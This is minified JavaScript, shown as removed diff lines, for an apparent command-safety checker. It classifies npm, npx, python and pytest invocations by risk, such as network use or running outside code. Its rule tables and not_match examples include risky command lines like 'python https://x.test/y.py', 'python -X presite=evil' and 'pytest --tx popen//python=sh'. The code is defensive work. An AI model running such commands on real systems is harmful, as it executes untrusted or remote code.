-obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),MO=new Set(["--inc\
-lude-workspace-root","--prefix","--workspace","--workspaces"]),GO=new Set(["--bail","--coverage","--runInBand"]),HO=`
-  -?=usage -C=prefix -H=usage -c=call -d=loglevel:info -dd=loglevel:verbose -ddd=loglevel:silly
-  -g=global -h=usage --help=usage -iwr=include-workspace-root -l=long --no=no-yes -p=parseable
-  -q=loglevel:warn --quiet=loglevel:warn -s=loglevel:silent --silent=loglevel:silent -v=version
-  --verbose=loglevel:verbose -w=workspace -ws=workspaces -y=yes
-`,ih=new Map(HO.trim().split(/\s+/).map(t=>t.split(/[=:]/)).map(([t="",e,n])=>[t,`--${e}${n===void 0?"":`=${n}`}`])),oh=Zr(
-{"runs-script":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll\
- prefix query root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit ins\
-tall-test,it link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprec\
-ate dist-tag login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,\
-info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function Un(t,e){
-const{tokens:n,rest:s}=eh(e,KO(t)),r=[],i=[];let o;for(const B of n)B.kind==="flag"&&B.word===o&&/\s/.test(B.written)||(o=
-B.kind==="flag"&&B.consumes?B.next:void 0,B.kind==="flag"&&!zO(t,B,i)?r.push(UO(B)):i.push(B.word));const a=t.stops?{operands:[],
-started:i}:{operands:i,started:[]},c=s&&r.pop();if(s===void 0||c===void 0)return{flags:r,...a};const{word:u,value:l}=c,d=l===
-void 0?s:[{...u,text:l},...s];return{flags:r,...a,rest:{flag:c,words:d}}}function zO({readsBehind:t,handsOn:e},{part:n},s){
-return!!t&&!e&&n.spec===void 0&&s.length>0}function UO(t){const{word:e,attached:n,next:s,consumes:r,part:i}=t,{spec:o,negated:a,
-letter:c,fixed:u=n}=i,l=c??t.written;if(r&&s!==void 0){const m={start:e.span.start,end:s.span.end};return{word:{...e,span:m},
-written:l,flag:o,value:s.text,valueWord:s,off:!1}}const d=s!==void 0&&(!s.text.startsWith("-")||s.text==="-"),B=o===void 0&&
-d?s.text:void 0,f=o?.arity!=="value"&&/^(?:false|0)$/.test(u??""),h=o?.arity!=="rest"&&(a||f);return{word:e,written:l,flag:o,
-value:u??B,off:h}}const JO={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function xn(t,e=!1){
-const n=t===void 0?"never":JO[t.arity];return{spec:t,negated:e,takes:e&&n!=="rest"?"never":n}}function ZO({flags:t},e,n){
-const s=c=>{const u=t.get(c);return{...xn(u),takes:u?.arity==="value"?"always":"never"}},r=t.get(e)??t.get(/^-\d+$/.test(
-e)?"-#":"");if(r!==void 0)return[(n===void 0?r.arity!=="attached":r.arity!=="none")?s(r.name):xn(void 0)];const i=e.slice(
-0,2);if(!e.startsWith("--")&&t.get(i)?.arity==="value")return[{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.
-test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(c=>t.get(`-${c}`)?.arity==="none")?o.map(c=>s(`-${c}`)):[xn(void 0)]}
-function KO(t){return{flags:t.stops&&!t.readsBehind?"first":"anywhere",dash:"operand",separator:/^--$/,equals:t.strict?"\
-long":"all",unknown:"never",expand:(e,n)=>{if(t.strict)return ZO(t,e,n);const s=WO(t,e,n),r=t.handsOn&&!t.readsBehind;return t.
-stops&&r&&s.some(({spec:o})=>o===void 0)?"operand":s}}}function WO(t,e,n){const s=e.replace(/^-+/,""),r=e.startsWith("--"),
-i=qO(t,s,r);if(i!==void 0)return[i];if(r||s.length<2)return[xn(void 0)];const o=[],a=n===void 0?s:`${s}=${n}`;for(let c=0;c<
-a.length;c+=1){const u=a[c]??"",l=t.flags.get(u);if(l===void 0)return[...o,xn(void 0)];const d={...xn(l),letter:`-${u}`},
-B=a.slice(c+1);if(B!==""&&(l.arity!=="none"||B.startsWith("="))){const f=l.arity==="rest"?"rest":"never";return[...o,{...d,
-fixed:B.replace(/^=/,""),takes:f}]}o.push(d)}return o}function qO(t,e,n){const s=ah(t,e,n)??(n&&t.completes?VO(t,e):void 0);
-if(s!==void 0)return xn(s);if(!/^no-?[A-Za-z]/.test(e))return;const r=ah(t,e.replace(/^no-?/,""),n);return r&&xn(r,!0)}function VO({
-flags:t},e){const n=Bs(e),s=new Map;for(const[i,o]of t)i.startsWith(n)&&s.set(o.name,o);const[r]=s.values();return s.size===
-1?r:void 0}function ah(t,e,n){const s=Bs(e),r=n?s.lastIndexOf("."):-1,i=r<0?void 0:t.flags.get(s.slice(r+1));return i===
-void 0||t.flags.has(s)?ra(t,s):i.kind==="text"?ra(t,s)??i:i}const Ea=["outside-code","uses-network","writes-files","tool\
--writes","only-prints","checks-syntax-only","never-ends","skips-tests","weakens","reads-stdin"];function oi(t){return Ea.
-includes(t)}function ch(t,e=_a){const{flags:n,operands:s}=uh(rh,t,ih),[r,...i]=s,o=r&&oh.get(r.text),a=o?.kind==="runs-t\
-ool",c=lh("npm",n,t,a),u={program:"npm",flags:c.flags};if(r===void 0){const f=dh(n)?[]:[ka("npm",t)];return{invocation:{
-...u,operands:[],passthrough:[]},problems:[...c.problems,...f]}}if(o===void 0){const f=[...oh].find(([g])=>g.startsWith(
-r.text))?.[1].name??"",h={program:"npm",subcommand:r.text,meant:f},m=[be("unknown-subcommand",r.span,h),...c.problems];return{
-invocation:{...u,operands:i,passthrough:[]},problems:m}}const l={...u,subcommand:o.name},{invocation:d,problems:B}=eA(o,
-{word:r,rest:i},l,e);return{invocation:d,problems:[...B,...c.problems]}}const YO=new Map([...ih,["--no-install","--no-ye\
-s"],["-p","--package"]]);function XO(t,e=_a){const{flags:n,operands:s}=uh({...rh,stops:!0},t,YO),r=lh("npx",n,t,!0),i={program:"\
-npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===void 0){const{subcommand:h,...m}=i,g=dh(n)?[]:[ka("npx",t)];return{invocation:{
-...m,operands:[],passthrough:[]},problems:[...r.problems,...g]}}const a=t[t.indexOf(o)-1],c=s.slice(1).find(({text:h})=>h.
-startsWith("-")),d=/^--no(?!-install$)/.test(a?.text??"")&&c!==void 0&&a?[be("flag-value",a.span,{program:"npx",flag:a.text,
-fault:"npx takes the next word for its value"})]:[],{invocation:B,problems:f}=Bh(s,i,e);return{invocation:B,problems:[...f,
-...r.problems,...d]}}function uh(t,e,n){const s=new Map;for(const c of e){const u=n.get(c.text);s.set(u===void 0?c:{...c,
-text:u},c)}const{flags:r,operands:i,started:o}=Un(t,[...s.keys()]),a=t.stops?o:i;return{flags:r,operands:a.map(c=>s.get(
-c)??c)}}function lh(t,e,n,s){const r=e.map(i=>{const{word:o,value:a,flag:c}=i,u=n.findIndex(({span:D})=>D.start===o.span.
-start),l=(n[u]?.text??"").replace(/(?<=^--[^=]*)=.*/s,""),[,d,B]=/^--(no-)?(.*)$/s.exec(c?.name??l)??[],f=d!==void 0,h={
-name:`--${B??l}`,written:l,span:o.span,...a!==void 0&&c&&{value:a},...f&&{negated:f}};if(c===void 0)return{flag:h,problems:[
-QO(t,h,n[u+1],s)]};const m=/^(?:true|false|null|always)$/.test(n[u+1]?.text??""),g=c.arity==="value"?th(a,!1):m?"npm rea\
-ds the next word as its value":void 0,C=oi(c.kind)?c.kind:s&&MO.has(c.name)?"outside-code":void 0,b={program:"npm",flag:l,
-fault:g??""},y=g===void 0?[]:[be("flag-value",o.span,b)];return{flag:h,problems:[...C?[ni(C,t,h)]:[],...y]}});return{flags:r.
-map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}function QO(t,e,n,s){const r=ni("unknown-flag",t,e),i=!s&&GO.has(
-e.written),o=n!==void 0&&!n.text.startsWith("-");return i&&!o?{...r,severity:"warning"}:r}function dh(t){return t.some(({
-flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}function eA({name:t,kind:e},n,s,r){if(e==="runs-script")return tA(
-t,n,s);if(e!=="runs-tool")return{invocation:{...s,operands:n.rest,passthrough:[]},problems:[et(e,s.program,{text:t,span:n.
-word.span})]};if(n.rest.length>0)return Bh(n.rest,s,r);const o=s.flags.some(({name:a})=>a==="--call")?[]:[ka(s.program,[
-n.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}function tA(t,{word:e,rest:n},s){const r=t==="\
-run"?n.slice(0,1):[e],i=t==="run"?n.slice(1):n,[o]=r,a=[];o===void 0?a.push(si("npm",{...e,text:"run"})):o.text==="env"&&
-a.push({...si("npm",{...o,text:"run env"}),severity:"error"});const c=nh(i);return c!==void 0&&a.push(si("npm",c)),{invocation:{
-...s,operands:r,passthrough:i},problems:a}}function Bh([t,...e],n,s){const r={...n,operands:t?[t]:[],passthrough:e};if(t===
-void 0)return{invocation:r,problems:[]};if(!Ks(t.text))return{invocation:r,problems:[et("uses-network",n.program,t)]};const{
-problems:i,...o}=s.tool(t,e);return{invocation:{...r,...o},problems:i}}function ka(t,e){const n=e[0]?.span.start??0,s=e.
-at(-1)?.span.end??0;return be("nothing-to-run",{start:n,end:s},{program:t})}const va={problems:[]};function ai(t,e,n){const{
-word:s,flag:r,value:i="",written:o,off:a}=n;if(r===void 0)return BA(t,e,n);const c=h=>Da(h,t,n),{choices:u}=r;if(u?.every(
-h=>!nA(h,i.replace(/\s+/g,""))))return{problems:[c("unknown-flag")]};if(a)return va;if(r.kind==="node")return ph(s,dA(t,
-i));const{rule:l,...d}=oi(r.kind)?{rule:r.kind}:sA(t,n,e.stops===!0),B=zn(o)||ri(o),f=l??(B?"outside-code":void 0);return{
-...i===""?{}:d,problems:f?[c(f)]:[]}}function nA(t,e){const[n="",s]=t.split("~");if(s===void 0)return e===t;const r=e.slice(
-n.length,e.length-s.length);return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${n}${r}${s}`}function Da(t,e,{word:{text:n,span:s},written:r,
-value:i=""}){const o=n===r&&i!==""?`${r} ${i}`:n;return ni(t,e,{name:r,written:o,span:s,value:i})}function sA(t,e,n){const{
-word:s,flag:r,written:i,value:o=""}=e,{span:a}=s,c=r?.kind??"text";switch(c){case"choice":return{};case"tests":return{files:[
-{as:"tests",path:o,span:a}]};case"path":{const u=xe(o)===void 0?"outside-code":void 0,l=Hn(o)?[]:[{as:"place",path:o,span:a}];
-return{rule:u,files:l,root:o}}case"config":return Hn(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"conf\
-ig",path:o,span:a}]};case"output":{const u=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(
-u)?{}:Hn(u)?{rule:"writes-files"}:{rule:"tool-writes",files:[{as:"place",path:u,span:a}]}}case"code":case"preload":{const u=c===
-"code"?fh(o,n):aA(o,n),l=Da("tool-runs-file",t,e);return{rule:u,files:cA(o).map(d=>uA(d,a,l,c))}}case"module":{const u=o.
-split(":").filter(f=>/^\w+(?:\.\w+)*$/.test(f)),l=new Set(u.flatMap(f=>[f,f.replace(/\.\w+$/,"")]).flatMap(xa)),d=Da("to\
-ol-runs-file",t,e);return{rule:zn(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...l].map(f=>({as:"module",path:f,span:a,
-ifFile:d}))}}default:{const u=ri(o)&&!oA(i,o),l=!oi(c)&&ds[c](o)!==void 0;return{rule:zn(o)||u||rA.test(o)||l?"outside-c\
-ode":void 0}}}}const rA=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,iA=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;
-function oA(t,e){return iA.test(t)||t==="-t"&&!e.includes(":")}function fh(t,e){if(Hn(t)||/[\s(){};]/.test(t))return"out\
-side-code";if(t.split(",").some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function aA(t,e){
-return Qf.has(t)||EO.has(t)?"tool-runs-file":e?"outside-code":fh(t,e)??"tool-runs-file"}function cA(t){return t.split(",").
-filter(n=>n!==""&&!Hn(n)).map(n=>n.replace(/^<rootDir>\//,"./"))}function uA(t,e,n,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.
-test(t)?{as:"code",path:t,span:e}:{as:"module",path:t,span:e,ifFile:n,first:s==="preload"}}function xa(t){const e=t.replaceAll(
-".","/");return["","src/"].flatMap(n=>[".py","/__main__.py","/__init__.py"].map(s=>`${n}${e}${s}`))}function lA(t){const[
-,e="",n=""]=/^(\w+)[=:](.*)$/s.exec(t)??[];return e!==""&&la(e,n)}function dA(t,e){return/^(?:_?mocha|deno)$/.test(t)?e.
-split(",").map(n=>n.startsWith("-")?n:`--${n}`):t==="ava"?un(e).words.map(({text:n})=>n):[e]}const hh="x.js";function ph({
-span:t},e){const n=[...e,hh,hh].map(i=>({text:i,span:t,quoted:!1})),{invocation:s,problems:r}=sh(n);return{problems:r,nodeFlags:s.
-flags}}function BA(t,{stops:e,handsOn:n,data:s={}},{word:r,value:i=""}){const o=a=>({problems:[et(a,t,r)]});if(n){const a=r.
-text.includes("=")||i===""?[]:[i],c=ph(r,[r.text,...a]);if(!c.problems.some(({rule:u})=>u==="unknown-flag"))return c}return e?
-o("unknown-flag"):s.starts==="npm-scripts"&&r.text.includes("=")?va:zn(i)||ri(i)?o("outside-code"):s.unknown?va:o("unkno\
-wn-flag")}function fA(t,e,n){const[s]=n;if(s===void 0)return[];const r=n.find(({text:o})=>e.readsBehind&&mh(e,o)!==void 0);
-return(e.data.variables?n:[r??s]).flatMap(o=>{const a=mh(e,o.text);return a===void 0?[]:[et(a,t,o)]})}function mh({refused:t,
-data:e},n){const s=e.ends_with?.split(" ");if(s?.includes(n))return;const r=o=>ra(t,Bs(o))?.kind,i=n.split(":").some(o=>r(
-o)==="never-ends");return r(n)??(s||i?"never-ends":void 0)}function hA(t,{places:e,data:{variables:n}},s){return s.flatMap(
-(r,i)=>{const o=e[Math.min(i,e.length-1)]?.kind??"path",a=n===void 0?[]:yA(t,n,r);if(a.length>0)return a;const c=Oa(o,r.
-text);return c===void 0?[]:[et(c,t,r)]})}function Oa(t,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.test(e))
-return t==="text"&&pA.test(e)?void 0:"uses-network";switch(t){case"import":return e.includes("@")?"uses-network":xe(e)===
-void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":zn(e)||ri(e)?"outside-code":void 0;case"path":case"\
-tests":{if(e==="-")return"reads-stdin";if(e.startsWith("@"))return"outside-code";const n=e.replace(/^!|::.*$/gs,"");return xe(
-n)===void 0||zn(e)?"outside-code":void 0}default:return ds[t](e)===void 0?void 0:"outside-code"}}const pA=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
-function mA({places:t,data:e},n){const s=t[0]?.kind;return n.flatMap(({text:r,span:i})=>{if(Oa(s??"path",r)!==void 0)return[];
-const o=(s==="import"||e.starts==="package")&&r.endsWith(".go");if(s==="tests"||o)return[{as:"tests",path:r.replace(/^!|::.*$|:[\d,*-]+$/gs,
-""),span:i}];const a=xe(r);return a&&!vt(a,".git",{ignoreCase:!0})&&!Hn(r)?[{as:"place",path:r,span:i}]:[]})}const gA=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
-CA=/[$`;&|<>(){}\s]/;function yA(t,e,n){const{text:s,span:r}=n,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
-!e.includes(o)?[be("make-variable",r,{program:t,variable:o})]:(i?gA.test(s):!CA.test(s))?[]:[et("outside-code",t,n)]}function wA(t,{
-program:e,words:n,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:u})=>u?.kind==="only-prints"||u?.kind==="outsid\
-e-code"),a=u=>s.start(u,e),c=(()=>{switch(t){case"node":return o?[]:[a({program:"node",words:i})];case"command":return o?
-[]:[bA(e,n,i,a)];case"command-texts":return i.map(u=>EA(e,u,a));case"npm-scripts":{const u=r.flatMap(({flag:l,word:d})=>l===
-void 0?[d]:[]);return i.map(l=>kA(e,l,u,a))}default:return[]}})();return{invocation:{launched:c.flatMap(u=>u.launched)},
-problems:c.flatMap(u=>u.problems)}}function bA(t,e,n,s){const{words:r,problems:i}=t==="cross-env"?_A(n):{words:n,problems:[]},
-[o]=r,a=o&&e.find(({text:d})=>d===o.text),c=`\`${t}\` starts at the first word that is \`${o?.text}\``,u=o===void 0||a===
-o?[]:[be("flag-value",o.span,{program:t,flag:o.text,fault:c})],l=s({words:r});return{...l,problems:[...i,...u,...l.problems]}}
-function _A(t){const e=t.findIndex(({text:r})=>!/^\w+=/.test(r)),n=e<0?t:t.slice(0,e),s=n.flatMap(({text:r,span:i})=>{if(lA(
-r))return[];const{written:o,attached:a=""}=ba(r);return[be("assignment-refused",i,{name:o,value:a,known:!1})]});return{words:t.
-slice(n.length),problems:s}}function EA(t,{text:e,span:n},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
-e)??[],{words:o,problems:a}=un(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(ga({problems:a})||r!==""&&i.trim()==="")||
-!/^[\w:.@/*-]*$/.test(r))return Ch(t,{text:e,span:n});const u=o.map(l=>({...l,span:n}));return s(r===""?{words:u}:gh([{text:r,
-span:n,quoted:!1},...u],"wildcard"))}function kA(t,{text:e,span:n},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
-{words:a,problems:c}=un(o),u=o.trim()===""||ga({problems:c});if(i===""||!u||/\{!?[*@%\d]/.test(e))return Ch(t,{text:e,span:n});
-const l=a.map(B=>({...B,span:n})),d=[...s,{text:i,span:n,quoted:!1},...l];return r(gh(d,/^[\w:.@/-]+$/.test(i)?void 0:"g\
-lob"))}function gh(t,e){return{program:"npm",words:[{text:"run",span:t.at(-1)?.span??{start:0,end:0},quoted:!1},...t],...e&&
-{selects:e}}}function Ch(t,e){return{launched:[],problems:[et("outside-code",t,e)]}}const vA="conftest.py pytest.toml .p\
-ytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.py usercustomize.py".split(" "),
-Ws=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"root"},{path:".local/bin",at:"ho\
-me"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],ci={PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"\
-0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},DA={programs:["python","python3"],starts:"file",extensions:"py",alone:"\
-reads-stdin",flags:{text:"b B d E I P q R s S u v W=",choice:"X=dev|utf8|utf8=1|importtime","outside-code":"x c+",weakens:"\
-O OO",module:"m+","reads-stdin":"i","only-prints":"help,h version,V help-all help-env help-xoptions ?"},started_programs:[
-"pytest","ruff","mypy"],build_files:["sitecustomize.py","usercustomize.py"],dependencies:Ws,environment:ci,match:["pytho\
-n3 scripts/check.py --strict","python -m pytest -q tests","python -B -W error scripts/check.py","python -X dev -Xutf8 -X\
- importtime scripts/check.py","python -m py_compile scripts/check.py"],not_match:['python -Ic "print(1)"',"python -","py\
-thon -m pip install x","python -X presite=evil scripts/check.py","python -Xfrozen_modules=off scripts/check.py","python \
-scripts/x.sh","python tool.pyz","python -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},xA={
-operands:"tests*",flags:{text:`
-      assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
-      durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
-      last-failed,lf last-failed-no-failures,lfnf= log-cli-level= log-level= m= maxfail= new-first,nf
-      no-header no-summary noconftest q,quiet r= s show-capture= stepwise,sw strict strict-config
-      strict-markers runxfail tb= verbose,v verbosity= pyargs ignore= ignore-glob= disable-warnings
-      collect-in-virtualenv max-warnings=
-      cov? cov-append cov-branch cov-context= cov-fail-under= cov-report? cov-reset no-cov no-cov-on-fail
-      numprocesses,n= maxprocesses= dist= max-worker-restart= timeout= timeout-method= asyncio-mode=
-      randomly-seed= random-order random-order-seed= reruns= reruns-delay= forked count= splits= group=
-      hypothesis-profile= hypothesis-seed= hypothesis-show-statistics benchmark-only benchmark-skip
-      benchmark-disable reuse-db create-db disable-socket block-network record-mode= runslow
-      mypy flake8 ruff headed browser=
-    `,module:"p= ds= W,pythonwarnings=",path:"rootdir= confcutdir= cov-source=",config:"config-file,c= cov-config=",output:"\
-basetemp= junitxml= log-file= report-log= html= debug? benchmark-json= json-report-file=","reads-stdin":"pdb trace","onl\
-y-prints":"help,h version,V co,collect-only fixtures,funcargs fixtures-per-test markers setup-only setup-plan","tool-wri\
-tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:vA,
-dependencies:Ws,environment:{...ci,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
-ider","pytest --cov=src --cov-report=term-missing"],not_match:["pytest -o addopts=-x","pytest --tx popen//python=sh","py\
-test --junitxml=../x.xml","pytest @args.txt"]},OA=new Set(`
-  __future__ __hello__ __phello__ _aix_support _collections_abc _compat_pickle _markupbase _osx_support
-  _pydecimal _pyio _pyrepl _sitebuiltins _strptime _weakrefset abc aifc annotationlib antigravity argparse array
-  ast asynchat asyncio asyncore atexit audioop base64 bdb binascii binhex bisect builtins bz2 cProfile calendar
-  cgi cgitb chunk cmath cmd code codecs codeop collections colorsys compileall compression concurrent
-  configparser contextlib contextvars copy copyreg crypt csv ctypes curses dataclasses datetime dbm decimal
-  difflib dis distutils doctest dummy_threading email encodings ensurepip enum errno faulthandler fcntl filecmp
-  fileinput fnmatch formatter fractions ftplib functools gc genericpath getopt getpass gettext glob graphlib grp
-  gzip hashlib heapq hmac html http idlelib imaplib imghdr imp importlib inspect io ipaddress itertools json
-  keyword lib2to3 linecache locale logging lzma macpath mailbox mailcap marshal math mimetypes mmap modulefinder
-  msilib msvcrt multiprocessing netrc nis nntplib nt ntpath nturl2path numbers opcode operator optparse os
-  ossaudiodev parser pathlib pdb pickle pickletools pipes pkgutil platform plistlib poplib posix posixpath
-  pprint profile pstats pty pwd py_compile pyclbr pydoc pydoc_data pyexpat queue quopri random re readline
-  reprlib resource rlcompleter runpy sched secrets select selectors shelve shlex shutil signal site smtpd
-  smtplib sndhdr socket socketserver spwd sqlite3 sre_compile sre_constants sre_parse ssl stat statistics string
-  stringprep struct subprocess sunau symbol symtable sys sysconfig syslog tabnanny tarfile telnetlib tempfile
-  termios textwrap this threading time timeit tkinter token tokenize tomllib trace traceback tracemalloc tty
-  turtle turtledemo types typing unicodedata unittest urllib uu uuid venv warnings wave weakref webbrowser
-  winreg winsound wsgiref xdrlib xml xmlrpc zipapp zipfile zipimport zlib zoneinfo
-  `.trim().split(/\s+/));function yh(t){return OA.has(t.replace(/\..*$/s,""))}const AA=Cf({"uses-network":`
-    conda pip pre_commit virtualenv easy_install poetry pipx build setuptools cookiecutter copier twine
-    semantic_release huggingface_hub
-  `,"never-ends":`
-    aiohttp.web aiosmtpd bokeh celery daphne flask gradio gunicorn hypercorn ipykernel jupyter locust notebook panel
-    pyftpdlib sphinx_autobuild streamlit tornado.autoreload uvicorn waitress ptw pytest_watch pytest_watcher
-    watchfiles watchdog.watchmedo
-  `,"reads-stdin":"IPython bpython ipdb ptpython pudb","outside-code":`
-    accelerate.commands.launch ansible ansible.playbook austin debugpy doit fabric fire hatch honcho invoke kernprof
-    line_profiler memory_profiler mprof nox papermill pdm pex pipenv ptvsd py_spy pydevd pyinstrument pyperf rye scalene\
-
-    torch.distributed.launch torch.distributed.run tox uv viztracer
-  `}),SA=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),TA=/^(?:-\w|--[\w-]+=)?[/~]/,wh=cn({flags:{text:`\
-
-      append,a branch concurrency= context= debug= include= L,pylib omit= parallel-mode,p save-signal= source=
-      source-dirs= source-pkgs= timid
-    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),IA=cn({flags:{text:"v,verbose o,option= f\
-,fail-fast"}}),$A=cn({flags:{text:"q,quiet"}}),RA=new Map([["doctest",IA],["py_compile",$A]]);function NA({text:t,span:e}){
-const n=/^\w+(?:\.\w+)*$/.test(t)?t.split("."):[],s=n.map((i,o)=>n.slice(0,o+1).join("."));return(t.endsWith(".py")?[t]:
-s.flatMap(xa)).map(i=>({as:"module",path:i,span:e}))}function FA({program:t,data:e},[n,...s],r){if(n===void 0)return{invocation:{},
-problems:[be("flag-value",{start:0,end:0},{program:t,flag:"-m",fault:"its value is missing"})]};const{known:i}=r.families,
-o=i.get(n.text);if(o!==void 0&&e.started_programs.includes(n.text)){const{launched:b,problems:y}=r.start({program:o,words:s},
-t);return{invocation:{module:n,launched:b},problems:y}}const a={module:n,operands:[n],passthrough:s},c=n.text==="unittes\
-t"?s.flatMap(NA):[],u={...a,files:c},l=(b,y=n.text)=>({invocation:u,problems:[et(b,t,{...n,text:y})]}),d=/^[\w.]+$/.test(
-n.text)?AA.get(n.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(d!==void 0)return l(d);const B=i.get(
-"python"),f=RA.get(n.text);if(f!==void 0&&B!==void 0){const b=n.text==="py_compile",y={...B,data:{...B.data,extensions:void 0}},
-{flags:D,operands:O}=Un(f,s),v=O.map($=>r.start({program:b?B:y,words:[$]},t)),I=v.flatMap($=>$.launched),_=b?l("checks-s\
-yntax-only","-m py_compile").problems:[];return{invocation:{...u,launched:I.map($=>({...$,...b&&{parsed:b}}))},problems:[
-...D.flatMap($=>ai(n.text,f,$).problems),..._,...v.flatMap($=>$.problems)]}}const h=SA.has(n.text);if(!h&&yh(n.text))return l(
-"outside-code",`-m ${n.text}`);const[m,...g]=s;if(n.text==="coverage"&&m?.text==="run"&&B!==void 0){const{flags:b,started:y,
-rest:D}=Un(wh,g),O=D?[{...D.flag.word,text:"-m"},...D.words]:y;if(O.length>0){const{launched:v,problems:I}=r.start({program:B,
-words:O},t),_=b.flatMap($=>ai("coverage",wh,$).problems);return{invocation:{...u,starts:"module",launched:v},problems:[..._,
-...I]}}}const C=s.filter(({text:b})=>zn(b)||h&&TA.test(b));return{invocation:h?u:{...u,starts:"module"},problems:C.map(b=>et(
-"outside-code",n.text,b))}}function LA(t,e,n,s){const{program:r}=s.family,i={operands:[e],passthrough:n},o=()=>({invocation:i,
-problems:[et("outside-code",r,e)]});switch(t){case"file":return Aa(e,n,s);case"package":{const a=Oa("import",e.text),u=a===
-void 0&&e.text.endsWith(".go")?[{as:"tests",path:e.text,span:e.span}]:[];return{invocation:{...i,files:u},problems:a?[et(
-a,r,e)]:[]}}case"program":return MA(e,n,s);case"script":case"own-script":{const a=PA.test(e.text)?o().problems:[];return{
-invocation:{...i,subcommand:"run"},problems:[...a,..._h(n,s.family)]}}case"tool":return Eh("exec",e,n,s);case"script-or-\
-tool":case"script-tool-or-file":{const a=t==="script-tool-or-file";if(jA.test(e.text)||a&&bh(e.text))return a?Aa(e,n,s):
-o();const c=Eh("script-or-tool",e,n,s);return{...c,problems:[...c.problems,..._h(n,s.family)]}}default:return o()}}const PA=/^\/|\*/,
-jA=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function bh(t){return/[\\/]/.test(t)&&!/^@[\w.-]+\/[\w.-]+$/.test(
-t)}function _h(t,{program:e,use:n}){return t.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&n.
-flags.get(Bs(i))?.kind==="outside-code"}).map(r=>et("outside-code",e,r))}function Aa(t,e,n){const{family:s,parsing:r}=n,
-{program:i}=s,{text:o,span:a}=t,c={operands:[t],passthrough:e,starts:"file"};if(o==="-"||o===""||o.startsWith("/dev/"))return{
-invocation:c,problems:[be("reads-stdin",a,{program:i,flag:o})]};if(/^(?:npm|jsr|https?|data|git|file|[a-z+]+:\/\/):?/.test(
-o)&&/:/.test(o))return{invocation:c,problems:[et("uses-network",i,t)]};const[,l=""]=/^(?:\.\/)?vendor\/(?:bin|[\w-]+\/[\w-]+)\/([\w-]+)$/.
-exec(o)??[],d=s.data.dependency_tools.includes(l)?r.families.known.get(l):void 0;if(d!==void 0){const{launched:B,problems:f}=r.
-start({program:d,words:e},i);return{invocation:{launched:B},problems:f}}return{invocation:c,problems:Sa(s,o,a)}}function Sa({
-program:t,data:{extensions:e}},n,s){const[,r]=/\.([^./\\]*)$/.exec(n.replace(/^.*\//s,""))??[];return e===void 0||r===void 0||
-e.split(" ").includes(r)?[]:[be("target-extension",s,{program:t,path:n,extension:r})]}function MA(t,e,n){const{family:s,
-parsing:r}=n,{text:i}=t;if(/:\/\//.test(i))return{invocation:{},problems:[et("uses-network",s.program,t)]};if(i==="-"||/\.\w+$/.
-test(i))return Aa(t,e,n);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
-problems:[et("outside-code",s.program,t)]};const{launched:a,problems:c}=r.start({program:o,words:e},s.program);return{invocation:{
-launched:a},problems:c}}function Eh(t,e,n,{family:s,parsing:r}){const{text:i}=e,o=[et("outside-code",s.program,e)];if(t===
